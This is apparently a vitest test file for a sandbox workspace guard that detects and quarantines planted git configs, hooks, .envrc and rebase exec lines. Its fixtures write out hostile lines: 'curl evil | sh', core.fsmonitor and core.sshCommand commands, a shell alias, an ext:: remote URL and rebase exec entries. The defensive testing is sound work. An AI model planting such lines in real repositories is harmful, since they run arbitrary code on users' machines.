/**
 * The workspace guard (issue 36): protected paths at any depth are found for read-only binds,
 * and a protected entry that appears between two sweeps is moved out of the workspace unless a
 * file tool wrote it or it is a git folder whose every setting is understood. Real files in temp
 * folders, real `git` making the repositories.
 */
import { execFileSync } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { gitlinksInIndex, unsafeGitConfig, WorkspaceGuard } from "../../plugins/sandbox/guard";

let ws = "";
let quarantine = "";
beforeEach(() => {
  ws = realpathSync(mkdtempSync(join(tmpdir(), "ubq-guard-ws-")));
  quarantine = realpathSync(mkdtempSync(join(tmpdir(), "ubq-guard-q-")));
});
afterEach(() => {
  rmSync(ws, { recursive: true, force: true });
  rmSync(quarantine, { recursive: true, force: true });
});

const git = (...args: string[]) => execFileSync("git", args, { cwd: ws, stdio: "pipe" });
const write = (rel: string, text = "x\n") => {
  mkdirSync(join(ws, rel, ".."), { recursive: true });
  writeFileSync(join(ws, rel), text);
};
const guard = () => new WorkspaceGuard([ws], () => quarantine);
const rel = (paths: { path: string }[]) => paths.map((p) => p.path.slice(ws.length + 1)).sort();

describe("existing protected paths, at any depth", () => {
  it("are found for binding: nested repositories' config and hooks, bare repositories, hook managers' files, .git files", () => {
    git("init", "-q", ".");
    mkdirSync(join(ws, "pkg", "inner"), { recursive: true });
    git("init", "-q", "pkg/inner");
    git("init", "-q", "--bare", "mirror.git");
    git("init", "-q", "--bare", "plain-bare");
    write("a/b/.pre-commit-config.yaml");
    write("a/lefthook.yml");
    write("deep/er/.pnpmfile.cjs");
    write("deep/bunfig.toml");
    write("deep/.envrc");
    write("sub/.vscode/tasks.json");
    write("wt/.git", "gitdir: /elsewhere\n");
    write("sub/package.json", "{}\n"); // written by installs: left writable
    write("node_modules/x/.envrc"); // installed code: not walked
    write("src/index.ts");
    const found = rel(guard().protectedPaths());
    expect(found).toEqual(
      [
        ".git/config",
        ".git/hooks",
        "a/b/.pre-commit-config.yaml",
        "a/lefthook.yml",
        "deep/.envrc",
        "deep/bunfig.toml",
        "deep/er/.pnpmfile.cjs",
        "mirror.git/config",
        "mirror.git/hooks",
        "pkg/inner/.git/config",
        "pkg/inner/.git/hooks",
        "plain-bare/config",
        "plain-bare/hooks",
        "sub/.vscode",
        "wt/.git",
      ].sort(),
    );
  });
});

describe("a sweep", () => {
  it("moves out protected entries made since the last sweep, anywhere, and keeps them in the quarantine folder", () => {
    mkdirSync(join(ws, "docs"));
    const g = guard();
    g.protectedPaths();
    write("docs/.envrc", "curl evil | sh\n");
    write("docs/new/deeper/lefthook.yml");
    write(".pre-commit-config.yaml");
    write("sub/bunfig.toml");
    write("docs/notes.md"); // ordinary: stays
    const removed = g.sweep();
    expect(rel(removed)).toEqual([
      ".pre-commit-config.yaml",
      "docs/.envrc",
      "docs/new/deeper/lefthook.yml",
      "sub/bunfig.toml",
    ]);
    for (const r of removed) expect(existsSync(r.path)).toBe(false);
    expect(readFileSync(join(quarantine, "docs", ".envrc"), "utf8")).toBe("curl evil | sh\n");
    expect(existsSync(join(ws, "docs", "notes.md"))).toBe(true);
    expect(g.sweep()).toEqual([]);
  });

  it("keeps what a file tool wrote (the permission engine judged it), and binds it from then on", () => {
    const g = guard();
    g.protectedPaths();
    write("sub/.vscode/settings.json");
    g.approve(join(ws, "sub", ".vscode", "settings.json"));
    expect(g.sweep()).toEqual([]);
    expect(rel(g.protectedPaths())).toEqual(["sub/.vscode"]);
  });

  it("keeps a repository `git init` or `git clone` makes, and removes one whose config runs a program", () => {
    const g = guard();
    g.protectedPaths();
    git("init", "-q", "fresh");
    git("-C", "fresh", "config", "user.email", "a@b.c");
    git("clone", "-q", "fresh", "copy");
    expect(g.sweep()).toEqual([]);
    expect(rel(g.protectedPaths())).toEqual([
      "copy/.git/config",
      "copy/.git/hooks",
      "fresh/.git/config",
      "fresh/.git/hooks",
    ]);

    git("init", "-q", "planted");
    git("-C", "planted", "config", "core.fsmonitor", "touch /tmp/pwned");
    const removed = g.sweep();
    expect(rel(removed)).toEqual(["planted/.git"]);
    expect(removed[0]!.reason).toContain("core.fsmonitor");
    expect(existsSync(join(ws, "planted", ".git"))).toBe(false);
  });

  it("removes a commondir, a config.worktree, a hook and a config made inside an existing repository", () => {
    git("init", "-q", ".");
    mkdirSync(join(ws, "n"));
    git("init", "-q", "n");
    rmSync(join(ws, "n", ".git", "config"));
    const g = guard();
    g.protectedPaths();
    writeFileSync(join(ws, ".git", "commondir"), "../evil\n");
    writeFileSync(join(ws, ".git", "config.worktree"), "[core]\n\tfsmonitor = x\n");
    writeFileSync(join(ws, "n", ".git", "config"), "[core]\n\tfsmonitor = x\n");
    expect(rel(g.sweep())).toEqual([".git/commondir", ".git/config.worktree", "n/.git/config"]);
  });

  it("judges a folder that was removed and made again as new, and a protected file replaced by another as new", () => {
    git("init", "-q", ".");
    mkdirSync(join(ws, "n"));
    git("init", "-q", "n");
    write("d/.envrc", "ok\n");
    const g = guard();
    g.protectedPaths();
    rmSync(join(ws, "n", ".git"), { recursive: true });
    git("init", "-q", "n");
    git("-C", "n", "config", "alias.st", "!touch /tmp/pwned");
    rmSync(join(ws, "d", ".envrc"));
    writeFileSync(join(ws, "d", ".envrc"), "evil\n");
    const removed = rel(g.sweep());
    // The new .git is judged whole when its inode is new; when the file system reuses the inode,
    // its config is judged as a new entry of the known folder. Either way the alias is gone.
    expect(removed[0]).toBe("d/.envrc");
    expect(removed[1]).toMatch(/^n\/\.git(\/config)?$/);
    expect(existsSync(join(ws, "n", ".git", "config"))).toBe(false);
  });

  it("judges a protected file removed and written again at once as new, also when it gets the old inode number", () => {
    write("d/.envrc", "ok\n");
    const g = guard();
    g.protectedPaths();
    // ext4 hands the freed inode number to the next file made: the new .envrc usually has it.
    rmSync(join(ws, "d", ".envrc"));
    writeFileSync(join(ws, "d", ".envrc"), "evil\n");
    expect(rel(g.sweep())).toEqual(["d/.envrc"]);
    expect(existsSync(join(ws, "d", ".envrc"))).toBe(false);
  });

  it("judges an existing folder that became a bare repository, and a folder renamed into place", () => {
    mkdirSync(join(ws, "store"));
    mkdirSync(join(ws, "staging", "x"), { recursive: true });
    const g = guard();
    g.protectedPaths();
    git("init", "-q", "--bare", "store");
    git("-C", "store", "config", "core.sshCommand", "touch /tmp/pwned");
    writeFileSync(join(ws, "staging", "x", ".envrc"), "evil\n");
    renameSync(join(ws, "staging", "x"), join(ws, "moved"));
    const removed = rel(g.sweep());
    expect(removed).toContain("store/config");
    expect(removed).toContain("moved/.envrc");
  });

  it("keeps a linked worktree `git worktree add` makes, and removes a .git file leading elsewhere", () => {
    git("init", "-q", ".");
    git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "--allow-empty", "-m", "one");
    const g = guard();
    g.protectedPaths();
    git("worktree", "add", "-q", "wt");
    expect(g.sweep()).toEqual([]);
    write("other/.git", `gitdir: ${join(ws, "elsewhere")}\n`);
    expect(rel(g.sweep())).toEqual(["other/.git"]);
  });

  it("removes a symlink planted under a protected name", () => {
    const g = guard();
    g.protectedPaths();
    symlinkSync("/tmp/whatever", join(ws, ".envrc"));
    expect(rel(g.sweep())).toEqual([".envrc"]);
  });
});

describe("gitlinks: repositories git status looks into", () => {
  it.each([2, 3, 4])("are read from an index of version %i, as git writes it", (version) => {
    git("init", "-q", ".");
    write("a.txt");
    write("deep/er/b.txt");
    const sha = "0123456789012345678901234567890123456789";
    git("add", "a.txt", "deep/er/b.txt");
    git("update-index", "--add", "--cacheinfo", `160000,${sha},node_modules/x`);
    git("update-index", "--add", "--cacheinfo", `160000,${sha},vendor/node_modules/y/z`);
    if (version === 3) {
      write("c.txt");
      git("add", "--intent-to-add", "c.txt"); // an extended flag: the entry git writes in version 3 only
    }
    git("update-index", "--index-version", String(version));
    expect(gitlinksInIndex(join(ws, ".git", "index")).sort()).toEqual(["node_modules/x", "vendor/node_modules/y/z"]);
  });

  it("a repository under node_modules that a gitlink names is judged, though node_modules is not walked", () => {
    git("init", "-q", ".");
    const g = guard();
    g.protectedPaths();
    mkdirSync(join(ws, "node_modules", "x"), { recursive: true });
    git("init", "-q", "node_modules/x");
    git("-C", "node_modules/x", "config", "core.fsmonitor", "touch /tmp/pwned");
    expect(g.sweep()).toEqual([]); // not linked: git status does not look inside
    git("update-index", "--add", "--cacheinfo", "160000,0123456789012345678901234567890123456789,node_modules/x");
    expect(rel(g.sweep())).toEqual(["node_modules/x/.git"]);
  });
});

describe("git config, read as git reads it", () => {
  const config = (text: string) => {
    writeFileSync(join(ws, "config"), text);
    return unsafeGitConfig(join(ws, "config"));
  };
  it("passes what git init and git clone write", () => {
    expect(
      config(
        '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n[remote "origin"]\n\turl = https://github.com/a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n',
      ),
    ).toBeUndefined();
  });
  it.each([
    ["[core]\n\tfsmonitor = touch /tmp/x\n", "core.fsmonitor"],
    ["[core]\n\thooksPath = /tmp\n", "core.hookspath"],
    ['[filter "lfs"]\n\tclean = sh -c x\n', "filter.lfs.clean"],
    ["[include]\n\tpath = ../x\n", "include.path"],
    ['[remote "o"]\n\turl = ext::sh -c touch% /tmp/x\n', "URL that can run a program"],
    ["[core]\n\tfsmon\\\nitor = x\n", "does not read"],
    ["[core] fsmonitor = x\n", "does not read"],
    ['[url "x"]\n\tinsteadOf = y\n', "url.x.insteadof"],
  ])("refuses %j", (text, why) => {
    expect(config(text)).toContain(why);
  });
});

describe("a rebase's to-do list", () => {
  const env = {
    ...process.env,
    GIT_AUTHOR_NAME: "a",
    GIT_AUTHOR_EMAIL: "a@b.c",
    GIT_COMMITTER_NAME: "a",
    GIT_COMMITTER_EMAIL: "a@b.c",
    GIT_EDITOR: "true",
  };
  const run = (...args: string[]) => execFileSync("git", args, { cwd: ws, stdio: "pipe", env });
  const commit = (text: string) => {
    writeFileSync(join(ws, "a.txt"), text);
    run("add", "a.txt");
    run("commit", "-q", "-m", text);
  };

  it("that gains exec lines during a call is moved out with the rebase's state: git rebase --continue then runs nothing", () => {
    run("init", "-q", "-b", "main", ".");
    commit("1\n");
    run("checkout", "-q", "-b", "side");
    commit("2\n");
    run("checkout", "-q", "main");
    commit("3\n");
    run("checkout", "-q", "side");
    const g = guard();
    g.protectedPaths();
    // The sandboxed call: a rebase with --exec that stops on a conflict, its exec line still to run.
    expect(() => run("rebase", "-x", "touch pwned", "main")).toThrow();
    expect(readFileSync(join(ws, ".git", "rebase-merge", "git-rebase-todo"), "utf8")).toContain("exec touch pwned");
    const removed = g.sweep();
    expect(rel(removed)).toEqual([".git/rebase-merge"]);
    expect(removed[0]!.reason).toContain("exec lines");
    expect(existsSync(join(quarantine, ".git", "rebase-merge", "git-rebase-todo"))).toBe(true);
    // The user's next continue finds no rebase: the exec line never runs.
    writeFileSync(join(ws, "a.txt"), "resolved\n");
    run("add", "a.txt");
    expect(() => run("rebase", "--continue")).toThrow(/no rebase in progress/i);
    expect(existsSync(join(ws, "pwned"))).toBe(false);
  });

  it("keeps a rebase that was under way before, while continuing it only moves its lines along", () => {
    run("init", "-q", ".");
    write(".git/rebase-merge/git-rebase-todo", "pick 1111111 one\nexec make test\npick 2222222 two\nexec make test\n");
    write(".git/rebase-merge/head-name", "refs/heads/side\n");
    const g = guard();
    g.protectedPaths();
    // Continuing: the first pick and exec move to `done`.
    write(".git/rebase-merge/git-rebase-todo", "pick 2222222 two\nexec make test\n");
    expect(g.sweep()).toEqual([]);
    // A new exec line: moved out.
    write(".git/rebase-merge/git-rebase-todo", "pick 2222222 two\nexec make test\nx curl evil | sh\n");
    expect(rel(g.sweep())).toEqual([".git/rebase-merge"]);
    expect(existsSync(join(ws, ".git", "rebase-merge"))).toBe(false);
  });
});
